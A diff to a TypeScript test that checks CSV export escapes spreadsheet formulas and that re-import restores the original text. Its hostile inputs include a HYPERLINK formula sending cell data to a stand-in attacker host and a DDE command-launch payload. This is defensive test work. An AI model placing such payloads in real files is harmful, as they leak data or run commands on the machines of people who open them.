@@ -323,7 +323,9 @@ describe('learned pairs as sources and CSV', () => {
     const hostile = ['=HYPERLINK("https://evil.example/?q="&A3,"help")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(1)', '\t=1+1'];
     const csv = learnedPairsCsv(hostile.map((q, i) => ({ ...pair(i + 1, q), answer: 'ok' })));
     for (const line of csv.split('\r\n').slice(1, -1)) expect(line).toMatch(/^"'[=+\-@\t]/);
-    const { pairs } = parseQaCsv(csv, 'learned.csv');
+    // With each row's id cleared, as an admin keeps exported rows as ordinary FAQ rows: a row whose id is a learned
+    // pair's is skipped, the pair being indexed from the store (reindex-learned-export.test.ts).
+    const { pairs } = parseQaCsv(csv.replace(/"learned#\d+"/g, '""'), 'learned.csv');
     expect(pairs.map((p) => p.question)).toEqual(hostile.map((q) => q.trim()));
     // A quote a person wrote at the start stays.
     expect(parseQaCsv('question,answer\n"\'quoted\' words",ok\n', 'x.csv').pairs[0]?.question).toBe("'quoted' words");
